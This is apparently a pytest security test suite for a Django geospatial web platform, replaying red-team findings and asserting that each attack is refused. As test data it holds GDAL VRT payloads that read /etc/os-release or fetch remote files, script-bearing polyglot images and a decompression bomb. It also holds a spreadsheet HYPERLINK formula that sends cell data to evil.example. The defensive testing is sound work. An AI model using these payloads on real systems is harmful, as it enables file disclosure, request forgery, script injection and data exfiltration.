"""Security (issue 12): each finding of the red team replayed as a test that
sees the attack refused with a 4xx and nothing stored. docs/reliability.md
("Threat model") lists the cases; the before/after figures are in its table."""
from __future__ import annotations

import csv
import http.server
import io
import json
import os
import threading
import zipfile
from pathlib import Path

import numpy as np
import pytest
import rasterio
from django.contrib.gis.geos import LineString, Point
from django.db import connection
from django.test import Client, override_settings
from PIL import Image

from geo_platform import ranges, spreadsheet
from imagery.models import Imagery
from layers.models import Photo, RoadSegment, StreetLight
from needs.models import WorkOrder
from tests.reliability.support import client_for, db_fingerprint, make_city, user_in, write_dem

pytestmark = pytest.mark.django_db


def errors_shape(response) -> dict:
    body = response.json()
    assert body.get("detail") and isinstance(body.get("errors"), dict), body
    return body


# ----------------------------------------------------------------- imagery: GDAL reads only what it should
def vrt(source: str) -> bytes:
    """A VRT whose one band reads raw bytes from `source` (the attack on the upload)."""
    return f"""<VRTDataset rasterXSize="64" rasterYSize="1"><SRS>EPSG:4326</SRS>
<GeoTransform>106.8, 0.001, 0, -6.2, 0, -0.001</GeoTransform>
<VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand">
<SourceFilename relativetoVRT="0">{source}</SourceFilename>
<ImageOffset>0</ImageOffset><PixelOffset>1</PixelOffset><LineOffset>64</LineOffset></VRTRasterBand></VRTDataset>""".encode()


def zipped_tif(tmp_path) -> bytes:
    tif = tmp_path / "inner.tif"
    write_dem(tif)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.write(tif, "inner.tif")
    return buf.getvalue()


@pytest.fixture
def imagery_root(settings, tmp_path):
    settings.IMAGERY_ROOT = tmp_path / "imagery"
    return settings.IMAGERY_ROOT


@pytest.fixture
def http_witness():
    """A local HTTP server counting the requests it gets (none may come from GDAL)."""
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"II*\x00" + b"\x00" * 60)

        do_HEAD = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("case", ["vrt_local_file", "vrt_vsicurl", "vrt_vsizip", "zip_archive", "vsizip_upload_name"])
def test_upload_of_a_gdal_virtual_file_is_refused_and_nothing_stored(case, imagery_root, tmp_path, http_witness):
    url, hits = http_witness
    planner = client_for(user_in("planner", name="perencana"))
    payload, name = {
        "vrt_local_file": (vrt("/etc/os-release"), "ortho.tif"),
        "vrt_vsicurl": (vrt(f"/vsicurl/{url}/secret.tif"), "ortho.vrt"),
        "vrt_vsizip": (vrt(f"/vsizip/{tmp_path}/archive.zip/inner.tif"), "ortho.tif"),
        "zip_archive": (zipped_tif(tmp_path), "ortho.zip"),
        "vsizip_upload_name": (zipped_tif(tmp_path), "/vsizip/ortho.zip"),
    }[case]
    (tmp_path / "archive.zip").write_bytes(zipped_tif(tmp_path))
    before = db_fingerprint(["imagery_imagery", "layers_auditlog"])
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile(name, payload, content_type="image/tiff")
    r = planner.post("/api/imagery/", {"file": upload, "kind": "orthophoto", "name": case}, format="multipart")
    assert r.status_code == 400, r.content
    assert "GeoTIFF" in errors_shape(r)["errors"]["file"][0]
    assert db_fingerprint(["imagery_imagery", "layers_auditlog"]) == before
    assert not list(Path(imagery_root).rglob("*.tif")), "no COG may be written"
    assert hits == [], "GDAL must not have fetched anything"


def test_only_planners_and_admins_upload_imagery(imagery_root, tmp_path):
    dem = tmp_path / "dem.tif"
    write_dem(dem)
    for role in ("analyst", "field_officer"):
        with open(dem, "rb") as fh:
            r = client_for(user_in(role, name=f"{role}-up")).post("/api/imagery/", {"file": fh, "kind": "dem"}, format="multipart")
        assert r.status_code == 403, (role, r.content)
    assert Imagery.objects.count() == 0
    with open(dem, "rb") as fh:
        r = client_for(user_in("planner", name="planner-up")).post("/api/imagery/", {"file": fh, "kind": "dem"}, format="multipart")
    assert r.status_code == 201, r.content


def test_import_refuses_virtual_paths(imagery_root, tmp_path):
    from imagery.errors import InvalidRaster
    from imagery.services import imagery_ingest

    (tmp_path / "ortho.vrt").write_bytes(vrt("/etc/os-release"))
    for source in ("/vsicurl/http://127.0.0.1:9/x.tif", f"/vsizip/{tmp_path}/a.zip/x.tif", tmp_path / "ortho.vrt"):
        with pytest.raises(InvalidRaster):
            imagery_ingest(source=source, kind="orthophoto")
    assert Imagery.objects.count() == 0


def test_gdal_is_configured_to_stay_off_the_network(http_witness):
    url, hits = http_witness
    assert os.environ["GDAL_DISABLE_READDIR_ON_OPEN"] == "EMPTY_DIR"
    assert os.environ["GDAL_VRT_ENABLE_PYTHON"] == "NO"
    with pytest.raises(rasterio.errors.RasterioIOError):
        rasterio.open(f"/vsicurl/{url}/cog.tif")
    assert hits == []


# ----------------------------------------------------------------- photos and /media/
def png_bytes(size=(8, 8), mode="RGB") -> bytes:
    buf = io.BytesIO()
    Image.new(mode, size, 200 if mode != "RGB" else (200, 10, 10)).save(buf, "PNG")
    return buf.getvalue()


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def light(db):
    return StreetLight.objects.create(status="working", geom=Point(106.62, -6.2, srid=4326))


def upload_photo(client, pk, name, data, content_type="image/png"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(f"/api/pju/{pk}/photos/", {"image": SimpleUploadedFile(name, data, content_type=content_type)},
                       format="multipart")


def test_polyglot_png_named_html_is_stored_and_served_as_a_clean_image(media_root, light):
    officer = client_for(user_in("field_officer", name="petugas"))
    polyglot = png_bytes() + b"<html><script>alert(document.domain)</script></html>"
    r = upload_photo(officer, light.pk, "x.html", polyglot, "text/html")
    assert r.status_code == 201, r.content
    url = r.json()["url"]
    assert url.endswith(".png") and "x.html" not in url
    served = Client().get(url)
    assert served.status_code == 200
    assert served["Content-Type"] == "image/png" and served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Disposition"].startswith("inline; filename=")
    body = served.content  # photos are served whole (no file left open)
    assert b"<script" not in body and body.startswith(b"\x89PNG")


@pytest.mark.parametrize("name,data,ctype", [
    ("x.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
    ("x.html", b"<html><script>alert(1)</script></html>", "image/png"),
    ("big.png", None, "image/png"),  # 20,000 × 20,000 pixels declared (a decompression bomb)
])
def test_photo_that_is_not_a_safe_image_is_refused(media_root, light, name, data, ctype):
    if data is None:
        data = png_bytes((20_000, 20_000), mode="1")
    officer = client_for(user_in("field_officer", name="petugas"))
    r = upload_photo(officer, light.pk, name, data, ctype)
    assert r.status_code == 400, r.content
    assert "image" in errors_shape(r)["errors"]
    assert Photo.objects.count() == 0 and not list(Path(media_root).rglob("*.*"))


def test_photo_exif_orientation_applied_and_metadata_stripped(media_root, light):
    img = Image.new("RGB", (40, 20), (0, 120, 0))
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to display
    exif[0x010F] = "KameraRahasia"  # maker
    buf = io.BytesIO()
    img.save(buf, "JPEG", exif=exif)
    officer = client_for(user_in("field_officer", name="petugas"))
    r = upload_photo(officer, light.pk, "foto.jpg", buf.getvalue(), "image/jpeg")
    assert r.status_code == 201, r.content
    stored = Photo.objects.get()
    assert stored.image.name.endswith(".jpg")
    with Image.open(stored.image.path) as out:
        assert out.size == (20, 40)  # turned upright
        assert not out.getexif() and b"KameraRahasia" not in Path(stored.image.path).read_bytes()


def test_media_follows_the_access_policy_of_its_asset(media_root, light, settings, tmp_path):
    officer = client_for(user_in("field_officer", name="petugas"))
    url = upload_photo(officer, light.pk, "a.png", png_bytes()).json()["url"]
    anon = Client()
    assert anon.get(url).status_code == 200
    StreetLight.objects.filter(pk=light.pk).update(deleted_at="2026-01-01T00:00Z")
    assert anon.get(url).status_code == 404, "photos of a soft-deleted asset are not served"
    assert officer.get(url).status_code == 404
    assert client_for(user_in("planner", name="perencana")).get(url).status_code == 200  # who may restore it
    assert anon.get("/media/../geo_platform/settings.py").status_code == 404
    # stored COGs honour PUBLIC_READ
    settings.IMAGERY_ROOT = Path(media_root) / "imagery"
    from imagery.services import imagery_ingest

    dem = tmp_path / "dem.tif"
    write_dem(dem)
    img = imagery_ingest(source=dem, kind="dem").imagery
    cog_url = f"/media/imagery/{img.file}"
    served = anon.get(cog_url)
    assert served.status_code == 200
    assert served.getvalue()[:4] in (b"II*\x00", b"MM\x00*")  # a TIFF, read to its end (which closes the file)
    settings.PUBLIC_READ = False
    assert anon.get(cog_url).status_code == 401
    assert anon.get(url).status_code == 401
    served = client_for(user_in("analyst", name="analis")).get(cog_url)
    assert served.status_code == 200 and served.getvalue()[:4] in (b"II*\x00", b"MM\x00*")


# ----------------------------------------------------------------- cost limits
@pytest.fixture
def dem(imagery_root, tmp_path):
    from imagery.services import imagery_ingest

    path = tmp_path / "dem.tif"
    write_dem(path, size=60)
    return imagery_ingest(source=path, kind="dem").imagery


def test_earthwork_with_a_tiny_interval_and_steep_slopes_is_refused_before_sampling(dem):
    # 60 × 10 m DEM around (106.62, -6.20); a ~250 m alignment every 0.25 m = ~1,000 stations; a design 50 m above
    # the ground with side slope 10 reaches ~1.7 km each side at 0.5 m steps: ~7 million samples, over the 1 million cap.
    body = {"alignment": {"type": "LineString", "coordinates": [[106.619, -6.201], [106.621, -6.199]]}, "width_m": 7,
            "design": {"start_elevation": 60, "grade_percent": 0}, "side_slope": 10, "method": "average_end_area",
            "station_interval_m": 0.25}
    r = Client().post(f"/api/imagery/{dem.pk}/earthwork/", body, content_type="application/json")
    assert r.status_code == 400, r.content
    assert "station_interval_m" in errors_shape(r)["errors"] and "samples" in r.json()["detail"]


@pytest.mark.parametrize("z", [31, 10**9, 10**30])
def test_giant_zoom_is_refused_before_any_arithmetic(dem, z):
    r = Client().get(f"/imagery/{dem.pk}/tiles/{z}/0/0.png")
    assert r.status_code == 400 and "z" in errors_shape(r)["errors"]
    r = Client().get(f"/tiles/pju/{z}/0/0.pbf")
    assert r.status_code == 400


def test_profile_zonal_and_estimate_sizes_are_bounded(dem, settings):
    line = {"type": "LineString", "coordinates": [[106.619, -6.201], [106.621, -6.199]]}
    r = Client().post(f"/api/imagery/{dem.pk}/profile/", {"geometry": line, "interval_m": 0.01}, content_type="application/json")
    assert r.status_code == 400 and "interval_m" in errors_shape(r)["errors"]
    settings.IMAGERY_MAX_ANALYSIS_PIXELS = 100
    square = {"type": "Polygon", "coordinates": [[[106.618, -6.202], [106.622, -6.202], [106.622, -6.198], [106.618, -6.198], [106.618, -6.202]]]}
    r = Client().post(f"/api/imagery/{dem.pk}/zonal/", {"geometry": square}, content_type="application/json")
    assert r.status_code == 400 and "geometry" in errors_shape(r)["errors"]
    many = {"type": "LineString", "coordinates": [[106.6 + i * 1e-7, -6.2] for i in range(50_001)]}
    r = Client().post("/api/estimates/", {"geometry": many, "width_m": 6, "template": "FFF1"}, content_type="application/json",
                      HTTP_ACCEPT_LANGUAGE="en")
    assert r.status_code == 400 and "vertices" in r.json()["detail"]


EXPORTS = ["/api/roads/?format=kml", "/api/roads/?format=csv", "/api/pju/?format=gpkg", "/api/needs/export/?format=xlsx",
           "/api/needs/export/?format=csv", "/api/needs/lighting-gaps/?format=csv", "/api/programme/?format=xlsx",
           "/api/programme/?format=csv"]


@pytest.mark.parametrize("url", EXPORTS)
def test_exports_need_login(url, city):
    r = Client().get(url)
    assert r.status_code in (401, 403), (url, r.status_code)
    errors_shape(r)
    ok = client_for(user_in("analyst", name="analis")).get(url)
    body = ok.getvalue()  # read whole: a streamed export's file is closed at its end (as the WSGI server does)
    assert ok.status_code == 200, (url, body[:300])


def test_estimate_export_needs_login(city):
    body = {"road_ids": [city["roads"][0].pk], "template": "x"}
    r = Client().post("/api/estimates/?format=xlsx", body, content_type="application/json")
    assert r.status_code in (401, 403)


def test_layer_export_is_streamed(city):
    r = client_for(user_in("analyst", name="analis")).get("/api/roads/?format=csv")
    assert r.status_code == 200 and r.streaming
    assert b"".join(r.streaming_content).startswith(b"WKT")


# ----------------------------------------------------------------- ranges, formulas, work-order race
@pytest.mark.parametrize("layer,prop,value", [
    ("roads", "width_m", 1e300), ("roads", "width_m", -1), ("roads", "lanes", 70000), ("roads", "sdi", -5),
    ("roads", "iri", 1e9), ("pju", "wattage_w", 1e308), ("pju", "pole_height_m", 1e6),
])
def test_out_of_range_numbers_are_refused(city, layer, prop, value):
    planner = client_for(user_in("planner", name="perencana"))
    target = city["roads"][0] if layer == "roads" else StreetLight.objects.order_by("pk").first()
    before = db_fingerprint(["layers_roadsegment", "layers_streetlight", "layers_auditlog"])
    r = planner.patch(f"/api/{layer}/{target.pk}/", {"properties": {prop: value, "version": target.version}}, format="json")
    assert r.status_code == 400 and prop in errors_shape(r)["errors"], r.content
    geometry = ({"type": "Point", "coordinates": [106.62, -6.2]} if layer == "pju"
                else {"type": "LineString", "coordinates": [[106.62, -6.2], [106.63, -6.2]]})
    props = {prop: value, **({"road_class": "local"} if layer == "roads" else {})}
    r = planner.post(f"/api/{layer}/", {"type": "Feature", "geometry": geometry, "properties": props}, format="json")
    assert r.status_code == 400 and prop in r.json()["errors"], r.content
    assert db_fingerprint(["layers_roadsegment", "layers_streetlight", "layers_auditlog"]) == before
    assert client_for(None).get("/api/programme/").status_code == 200


def test_nan_and_infinity_are_refused(city):
    planner = client_for(user_in("planner", name="perencana"))
    road = city["roads"][0]
    for raw in ('NaN', 'Infinity', '1e999'):
        body = '{"properties": {"width_m": %s, "version": %d}}' % (raw, road.version)
        r = planner.patch(f"/api/roads/{road.pk}/", body, content_type="application/json")
        assert r.status_code == 400, (raw, r.content)
    assert RoadSegment.objects.get(pk=road.pk).width_m == road.width_m


def test_importer_uses_the_same_range_table(db, tmp_path):
    from layers.importers.service import import_layer

    path = tmp_path / "pju.csv"
    path.write_text("lon,lat,wattage_w,pole_height_m\n106.62,-6.2,1e308,9\n106.63,-6.2,120,9\n106.64,-6.2,90,1e6\n")
    report = import_layer(path, layer="pju", source="range-test", progress=False)
    assert report["created"] == 1 and report["rejected"] == 2, report
    lo, hi = ranges.RANGES["wattage_w"]
    assert StreetLight.objects.get(source="range-test").wattage_w == 120 and lo <= 120 <= hi


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x\",\"klik\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_prefixes_are_neutralised(value):
    assert spreadsheet.neutralise(value) == "'" + value
    assert spreadsheet.neutralise(-5) == -5 and spreadsheet.neutralise("Jl. Utama") == "Jl. Utama"


def test_csv_and_xlsx_exports_carry_no_live_formula(city):
    from openpyxl import load_workbook

    from needs import services as need_services

    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    road = city["roads"][0]
    RoadSegment.objects.filter(pk=road.pk).update(name=evil)
    analyst = client_for(user_in("analyst", name="analis"))
    r = analyst.get("/api/roads/?format=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
    assert "'" + evil in [row["name"] for row in rows] and evil not in [row["name"] for row in rows]
    need_services.lighting_needs_compute(road_ids=[road.pk])
    r = analyst.get("/api/needs/export/?format=xlsx")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formula cell"
    assert "'" + evil in [c.value for c in cells]
    r = analyst.get("/api/needs/export/?format=csv")
    table = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    values = [v for row in table for v in row]
    assert "'" + evil in values and not [v for v in values if v.startswith(("=", "@", "+"))]  # numbers like -6.2 stay numbers


@pytest.mark.django_db(transaction=True)
def test_planners_racing_for_one_need_get_one_order():
    broken = StreetLight.objects.create(status="off", geom=Point(106.62, -6.2, srid=4326))
    planners = [user_in("planner", name=f"perencana{i}") for i in range(12)]
    barrier = threading.Barrier(len(planners))
    results = []

    def race(user):
        try:
            client = client_for(user)
            barrier.wait(timeout=60)
            r = client.post("/api/work-orders/", {"kind": "broken_pju", "target": broken.pk}, format="json")
            results.append((r.status_code, r.json()))
        finally:
            connection.close()

    threads = [threading.Thread(target=race, args=(u,)) for u in planners]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    codes = sorted(code for code, _ in results)
    assert len(results) == 12 and codes.count(201) == 1 and codes.count(409) == 11, codes
    winner = next(body["id"] for code, body in results if code == 201)
    assert {body["current"]["id"] for code, body in results if code == 409} == {winner}
    assert WorkOrder.objects.filter(pju=broken).count() == 1


# ----------------------------------------------------------------- odd inputs: 4xx, never 500
def test_odd_inputs_get_a_4xx(city):
    planner = client_for(user_in("planner", name="perencana"))
    officer = user_in("field_officer", name="petugas")
    broken = StreetLight.objects.create(status="off", geom=Point(106.62, -6.2, srid=4326))
    order = planner.post("/api/work-orders/", {"kind": "broken_pju", "target": broken.pk}, format="json").json()["id"]
    cases = {
        "limit=² (ogc)": Client().get("/ogc/collections/pju/items?limit=²"),
        "limit=² (api)": Client().get("/api/pju/?limit=²"),
        "id of 5000 digits (ogc)": Client().get("/ogc/collections/pju/items/" + "9" * 5000),
        "id of 5000 digits (api)": Client().get("/api/pju/" + "9" * 5000 + "/"),
        "NUL in search": Client().get("/map/search/", {"q": "jalan\x00"}),
        "NUL in a filter": Client().get("/api/pju/", {"source": "a\x00b"}),
        "officer id ²": planner.post(f"/api/work-orders/{order}/assign/", {"officer": "²"}, format="json"),
        "officer id of 5000 digits": planner.post(f"/api/work-orders/{order}/assign/", {"officer": "9" * 5000}, format="json"),
    }
    bad = {name: r.status_code for name, r in cases.items() if not 400 <= r.status_code < 500}
    # OGC clients asking for a huge page get the largest page (OGC API – Features), not a 500
    assert Client().get("/ogc/collections/pju/items?limit=" + "9" * 5000).status_code == 200
    assert not bad, bad
    for name, r in cases.items():
        assert r["Content-Type"].startswith("application/json"), name
    assert WorkOrder.objects.get(pk=order).assigned_to is None
    assert officer.pk  # the real officer still exists and was not picked


@override_settings(DEBUG=True)
def test_debug_pages_only_for_loopback_clients():
    from django.test import RequestFactory

    from geo_platform.hardening import LocalOnlyExceptionReporter

    remote = Client(REMOTE_ADDR="203.0.113.7").get("/no-such-page/")
    assert remote.status_code == 404 and b"URLconf" not in remote.content
    local = Client(REMOTE_ADDR="127.0.0.1").get("/no-such-page/")
    assert local.status_code == 404 and b"URLconf" in local.content
    try:
        raise ValueError("rahasia")
    except ValueError as exc:
        request = RequestFactory(REMOTE_ADDR="203.0.113.7").get("/x/")
        html = LocalOnlyExceptionReporter(request, type(exc), exc, exc.__traceback__).get_traceback_html()
        assert "rahasia" not in html and "Traceback" not in html
        request = RequestFactory(REMOTE_ADDR="127.0.0.1").get("/x/")
        assert "rahasia" in LocalOnlyExceptionReporter(request, type(exc), exc, exc.__traceback__).get_traceback_html()


def test_make_run_serves_loopback_by_default():
    makefile = (Path(__file__).resolve().parents[2] / "Makefile").read_text()
    assert "HOST ?= 127.0.0.1" in makefile


@pytest.mark.parametrize("path", ["/map/", "/login/", "/admin/login/", "/api/", "/api/docs/", "/ogc/", "/api/pju/"])
def test_content_security_policy_on_every_page(city, path):
    import base64
    import hashlib
    import re

    r = Client().get(path)
    csp = r["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "object-src 'none'" in csp and "frame-ancestors 'none'" in csp
    assert "'unsafe-inline'" not in csp.split("script-src", 1)[1].split(";")[0], "no inline scripts but the hashed ones"
    if r["Content-Type"].startswith("text/html"):
        for body in re.findall(rb"<script(?![^>]*\bsrc\s*=)[^>]*>(.*?)</script>", r.content, re.S):
            if body.strip():
                assert "'sha256-" + base64.b64encode(hashlib.sha256(body).digest()).decode() + "'" in csp


@override_settings(LOGIN_RATE_LIMIT=3, LOGIN_RATE_WINDOW=300)
def test_login_limit_is_per_address_and_user_and_spares_the_right_password(db):
    from django.core.cache import cache

    cache.clear()
    User = __import__("django.contrib.auth.models", fromlist=["User"]).User
    User.objects.create_user("korban", password="benar-123")
    User.objects.create_user("rekan", password="benar-456")
    attacker = Client(REMOTE_ADDR="198.51.100.9")
    for _ in range(3):
        assert attacker.post("/login/", {"username": "korban", "password": "salah"}).status_code == 200
    assert attacker.post("/login/", {"username": "korban", "password": "salah"}).status_code == 429
    # a colleague behind the same address logs in
    same_nat = Client(REMOTE_ADDR="198.51.100.9")
    assert same_nat.post("/login/", {"username": "rekan", "password": "benar-456"}).status_code == 302
    # the victim, from elsewhere, logs in with the right password
    home = Client(REMOTE_ADDR="192.0.2.44")
    assert home.post("/login/", {"username": "korban", "password": "benar-123"}).status_code == 302
    cache.clear()


# ----------------------------------------------------------------- work-order tiles are never public
@pytest.mark.parametrize("path", ["/tiles/work_orders/10/816/528.pbf", "/tiles/work_orders/0/0/0.pbf", "/tiles/work_orders.json"])
def test_work_order_tiles_need_login(db, path, settings):
    settings.PUBLIC_READ = True
    r = Client().get(path)
    assert r.status_code == 401 and errors_shape(r)
    assert client_for(user_in("analyst", name="analis")).get(path).status_code == 200
    assert Client().get("/api/work-orders/").status_code in (401, 403)


@pytest.fixture
def city(db):
    return make_city(n_lights=12)


def test_nul_in_a_json_text_value_is_a_400(city):
    planner = client_for(user_in("planner", name="perencana"))
    road = city["roads"][0]
    r = planner.patch(f"/api/roads/{road.pk}/", {"properties": {"name": "Jl.\x00Utama", "version": road.version}}, format="json")
    assert r.status_code == 400, r.content
    assert RoadSegment.objects.get(pk=road.pk).name == road.name
